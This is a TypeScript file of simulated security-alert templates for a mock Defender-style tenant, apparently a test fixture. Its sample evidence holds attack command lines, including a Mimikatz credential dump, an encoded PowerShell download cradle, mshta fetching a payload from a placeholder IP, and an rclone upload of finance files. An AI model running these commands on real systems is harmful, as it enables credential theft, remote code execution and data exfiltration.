/**
 * The detections the twin's seeded tenant raises: realistic titles, categories and detection sources
 * (reference §5.2), with what evidence each one carries (§5.3).
 */
import type { AlertSeverity } from './model';

export type TemplatePlatform = 'windows' | 'unix' | 'any';

export interface AlertTemplate {
  title: string;
  description: string;
  category: string;
  detectionSource: string;
  severities: readonly AlertSeverity[];
  mitreTechniques: readonly string[];
  threatFamilyName: string | null;
  threatName: string | null;
  /** The devices this detection can fire on. */
  platform: TemplatePlatform;
  /** A file (File evidence, and the image of the Process evidence when there is one). */
  file?: { name: string; path: string };
  process?: { commandLine: string; parentName: string; parentPath: string };
  user?: boolean;
  remoteIp?: boolean;
  url?: string;
}

export const ALERT_TEMPLATES: readonly AlertTemplate[] = [
  {
    title: 'Ransomware behavior detected in the file system',
    description: 'A process encrypted many files and dropped ransom notes. This is typical of human-operated ransomware.',
    category: 'Ransomware', detectionSource: 'WindowsDefenderAv', severities: ['High'], mitreTechniques: ['T1486', 'T1490'],
    threatFamilyName: 'Lockbit', threatName: 'Ransom:Win32/Lockbit.MK!MTB', platform: 'windows',
    file: { name: 'svchosts.exe', path: 'C:\\Users\\Public\\Libraries' },
    process: { commandLine: 'svchosts.exe -path C:\\ -enc', parentName: 'cmd.exe', parentPath: 'C:\\Windows\\System32' },
  },
  {
    title: 'Suspicious PowerShell command line',
    description: 'A PowerShell process ran an encoded command that downloads and runs content from the internet.',
    category: 'Execution', detectionSource: 'WindowsDefenderAtp', severities: ['Informational', 'Low', 'Medium'],
    mitreTechniques: ['T1059.001', 'T1105'], threatFamilyName: null, threatName: null, platform: 'windows',
    file: { name: 'powershell.exe', path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0' },
    process: {
      commandLine: 'powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA',
      parentName: 'winword.exe', parentPath: 'C:\\Program Files\\Microsoft Office\\root\\Office16',
    },
    user: true,
  },
  {
    title: "'Mimikatz' credential theft tool",
    description: 'The Mimikatz credential theft tool was detected. It can dump passwords and hashes from memory.',
    category: 'CredentialAccess', detectionSource: 'WindowsDefenderAv', severities: ['High'], mitreTechniques: ['T1003.001'],
    threatFamilyName: 'Mimikatz', threatName: 'HackTool:Win32/Mimikatz.D', platform: 'windows',
    file: { name: 'mimi.exe', path: 'C:\\Users\\Public\\Downloads' },
    process: { commandLine: 'mimi.exe "privilege::debug" "sekurlsa::logonpasswords" exit', parentName: 'cmd.exe', parentPath: 'C:\\Windows\\System32' },
    user: true,
  },
  {
    title: "'Emotet' malware was detected",
    description: 'Malware from the Emotet family was detected in a downloaded document.',
    category: 'Malware', detectionSource: 'WindowsDefenderAv', severities: ['Medium', 'High'], mitreTechniques: ['T1204.002'],
    threatFamilyName: 'Emotet', threatName: 'Trojan:Win32/Emotet.PVD!MTB', platform: 'windows',
    file: { name: 'Invoice_2291.docm', path: 'C:\\Users\\jdoe\\Downloads' },
  },
  {
    title: 'Connection to a custom network indicator',
    description: 'The device connected to an IP address or URL on your organization\'s custom indicator list.',
    category: 'CommandAndControl', detectionSource: 'CustomerTI', severities: ['Low', 'Medium', 'High'],
    mitreTechniques: ['T1071.001'], threatFamilyName: null, threatName: null, platform: 'any',
    remoteIp: true, url: 'http://update-check.contoso-cdn.net/gate.php',
  },
  {
    title: 'Suspicious URL clicked',
    description: 'A user opened a link in an email that was later found to be malicious.',
    category: 'InitialAccess', detectionSource: 'OfficeATP', severities: ['Low', 'Medium'], mitreTechniques: ['T1566.002'],
    threatFamilyName: null, threatName: null, platform: 'any', user: true, url: 'https://login-microsoftonline.contoso-sso.com/common/oauth2',
  },
  {
    title: 'Potentially unwanted application',
    description: 'An application that can affect device performance or show unwanted ads was detected.',
    category: 'Malware', detectionSource: 'WindowsDefenderAv', severities: ['Informational', 'Low'], mitreTechniques: [],
    threatFamilyName: 'Presenoker', threatName: 'PUA:Win32/Presenoker', platform: 'windows',
    file: { name: 'FreePDFConverterSetup.exe', path: 'C:\\Users\\Public\\Downloads' },
  },
  {
    title: 'Suspicious scheduled task',
    description: 'A scheduled task was created that runs a script from a user-writable folder at every logon.',
    category: 'Persistence', detectionSource: 'WindowsDefenderAtp', severities: ['Low', 'Medium'], mitreTechniques: ['T1053.005'],
    threatFamilyName: null, threatName: null, platform: 'windows',
    file: { name: 'schtasks.exe', path: 'C:\\Windows\\System32' },
    process: {
      commandLine: 'schtasks.exe /create /sc onlogon /tn "OneDrive Sync" /tr "wscript.exe C:\\ProgramData\\sync.vbs"',
      parentName: 'cmd.exe', parentPath: 'C:\\Windows\\System32',
    },
  },
  {
    title: 'Anomalous account lookups',
    description: 'A process queried many domain accounts and groups, which can be reconnaissance.',
    category: 'Discovery', detectionSource: 'WindowsDefenderAtp', severities: ['Low', 'Medium'], mitreTechniques: ['T1087.002', 'T1069.002'],
    threatFamilyName: null, threatName: null, platform: 'windows',
    file: { name: 'net.exe', path: 'C:\\Windows\\System32' },
    process: { commandLine: 'net.exe group "Domain Admins" /domain', parentName: 'cmd.exe', parentPath: 'C:\\Windows\\System32' },
    user: true,
  },
  {
    title: 'Suspicious remote WMI execution',
    description: 'A process was started on this device by a remote WMI call from another device.',
    category: 'LateralMovement', detectionSource: 'WindowsDefenderAtp', severities: ['Medium', 'High'], mitreTechniques: ['T1047'],
    threatFamilyName: null, threatName: null, platform: 'windows',
    file: { name: 'WmiPrvSE.exe', path: 'C:\\Windows\\System32\\wbem' },
    process: { commandLine: 'cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1690384 2>&1', parentName: 'WmiPrvSE.exe', parentPath: 'C:\\Windows\\System32\\wbem' },
    remoteIp: true,
  },
  {
    title: "An active 'CobaltStrike' backdoor was detected",
    description: 'A Cobalt Strike beacon was found running in memory and communicating with a command-and-control server.',
    category: 'CommandAndControl', detectionSource: 'WindowsDefenderAv', severities: ['High'], mitreTechniques: ['T1071.001', 'T1055'],
    threatFamilyName: 'CobaltStrike', threatName: 'Backdoor:Win64/CobaltStrike.NP!dha', platform: 'windows',
    file: { name: 'rundll32.exe', path: 'C:\\Windows\\System32' },
    process: { commandLine: 'rundll32.exe C:\\ProgramData\\msupd.dll,StartW', parentName: 'services.exe', parentPath: 'C:\\Windows\\System32' },
    remoteIp: true,
  },
  {
    title: 'SmartScreen URL warning',
    description: 'Microsoft Defender SmartScreen warned the user about a site reported as unsafe.',
    category: 'SuspiciousActivity', detectionSource: 'WindowsDefenderSmartScreen', severities: ['Informational', 'Low'],
    mitreTechniques: [], threatFamilyName: null, threatName: null, platform: 'windows', url: 'http://free-gift-cards.example.net/claim',
  },
  {
    title: 'Multiple failed RDP sign-ins from one address',
    description: 'Custom detection rule "RDP brute force": more than 50 failed sign-ins from the same remote address in 10 minutes.',
    category: 'CredentialAccess', detectionSource: 'CustomDetection', severities: ['Medium'], mitreTechniques: ['T1110.001'],
    threatFamilyName: null, threatName: null, platform: 'windows', remoteIp: true, user: true,
  },
  {
    title: 'Automated investigation started manually',
    description: 'An analyst started an automated investigation on this device.',
    category: 'SuspiciousActivity', detectionSource: 'AutomatedInvestigation', severities: ['Informational'], mitreTechniques: [],
    threatFamilyName: null, threatName: null, platform: 'windows',
  },
  {
    title: 'Suspicious process injection observed',
    description: 'A process injected code into another process, a common way to hide malicious activity.',
    category: 'DefenseEvasion', detectionSource: 'WindowsDefenderAtp', severities: ['Medium', 'High'], mitreTechniques: ['T1055.012'],
    threatFamilyName: null, threatName: null, platform: 'windows',
    file: { name: 'notepad.exe', path: 'C:\\Windows\\System32' },
    process: { commandLine: 'notepad.exe', parentName: 'excel.exe', parentPath: 'C:\\Program Files\\Microsoft Office\\root\\Office16' },
  },
  {
    title: 'Possible data exfiltration to cloud storage',
    description: 'Microsoft Defender Experts saw a large upload of compressed files to a personal cloud storage account.',
    category: 'Exfiltration', detectionSource: 'ThreatExperts', severities: ['Medium', 'High'], mitreTechniques: ['T1567.002'],
    threatFamilyName: null, threatName: null, platform: 'any',
    file: { name: 'rclone.exe', path: 'C:\\Users\\Public' },
    process: { commandLine: 'rclone.exe copy C:\\Finance\\Reports remote:backup --transfers 16', parentName: 'cmd.exe', parentPath: 'C:\\Windows\\System32' },
    user: true, url: 'https://mega.example.org/upload',
  },
  {
    title: 'Privilege escalation using token impersonation',
    description: 'A process duplicated the token of a SYSTEM process to run with higher privileges.',
    category: 'PrivilegeEscalation', detectionSource: 'WindowsDefenderAtp', severities: ['High'], mitreTechniques: ['T1134.001'],
    threatFamilyName: null, threatName: null, platform: 'windows',
    file: { name: 'PrintSpoofer64.exe', path: 'C:\\Windows\\Temp' },
    process: { commandLine: 'PrintSpoofer64.exe -i -c cmd', parentName: 'w3wp.exe', parentPath: 'C:\\Windows\\System32\\inetsrv' },
  },
  {
    title: 'Sensitive files collected into an archive',
    description: 'Many documents were compressed into a password-protected archive shortly before a network transfer.',
    category: 'Collection', detectionSource: 'MTP', severities: ['Low', 'Medium'], mitreTechniques: ['T1560.001'],
    threatFamilyName: null, threatName: null, platform: 'windows', file: { name: 'q3-payroll.7z', path: 'C:\\Users\\Public\\Documents' }, user: true,
  },
  {
    title: 'Exploit attempt against an Office application',
    description: 'An Office application started an unexpected child process after opening a document.',
    category: 'Exploit', detectionSource: 'WindowsDefenderAtp', severities: ['Medium', 'High'], mitreTechniques: ['T1203'],
    threatFamilyName: null, threatName: null, platform: 'windows',
    file: { name: 'Quarterly-Review.xlsx', path: 'C:\\Users\\Public\\Documents' },
    process: { commandLine: 'mshta.exe http://203.0.113.77/p.hta', parentName: 'excel.exe', parentPath: 'C:\\Program Files\\Microsoft Office\\root\\Office16' },
  },
  {
    title: 'Third-party sensor test alert',
    description: 'A connected third-party sensor raised a test alert.',
    category: 'General', detectionSource: 'ThirdPartySensors', severities: ['UnSpecified', 'Informational'], mitreTechniques: [],
    threatFamilyName: null, threatName: null, platform: 'any', remoteIp: true,
  },
  {
    title: 'Suspicious shell script executed from a temporary folder',
    description: 'A shell script in a world-writable folder downloaded a binary and made it executable.',
    category: 'Execution', detectionSource: 'WindowsDefenderAtp', severities: ['Low', 'Medium', 'High'], mitreTechniques: ['T1059.004'],
    threatFamilyName: null, threatName: null, platform: 'unix',
    file: { name: 'x.sh', path: '/tmp/.cache' },
    process: { commandLine: 'bash /tmp/.cache/x.sh', parentName: 'sshd', parentPath: '/usr/sbin' },
    remoteIp: true,
  },
  {
    title: 'Cryptocurrency mining software detected',
    description: 'A coin miner was detected and stopped.',
    category: 'Malware', detectionSource: 'WindowsDefenderAv', severities: ['Low', 'Medium'], mitreTechniques: ['T1496'],
    threatFamilyName: 'CoinMiner', threatName: 'Trojan:Linux/CoinMiner.A', platform: 'unix',
    file: { name: 'kworkerds', path: '/var/tmp' },
  },
];
